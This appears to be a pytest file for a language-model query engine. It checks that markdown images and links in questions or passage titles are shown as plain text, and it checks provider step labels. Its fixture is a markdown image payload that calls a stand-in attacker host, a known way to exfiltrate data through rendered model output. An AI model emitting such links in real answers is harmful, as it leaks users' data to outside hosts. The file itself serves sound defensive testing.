"""What readers see rendered must not act, with any content of questions and documents."""

from typing import get_args

import pytest

from query_engine import steps
from settings import LLMSettings
from tests.fakes.llm import passage

IMAGE = "![x](http://evil.example/?q=all)"


@pytest.mark.promise("A23")
def test_a_title_or_question_that_holds_an_image_or_a_link_is_shown_as_text() -> None:
    told = [steps.searching(f"What is {IMAGE}?", "mine"), *steps.found([passage("Wind.", title=IMAGE)])]

    assert all("(evil.example/?q=all)" in step.text for step in told)
    assert not any("](" in step.text for step in told)
    assert not any("![" in step.text or "http" in step.text for step in told)


@pytest.mark.parametrize("provider", get_args(LLMSettings.model_fields["provider"].annotation))
def test_every_provider_has_a_step_that_says_who_writes(provider: str) -> None:
    assert steps.writing(provider).kind == "write"
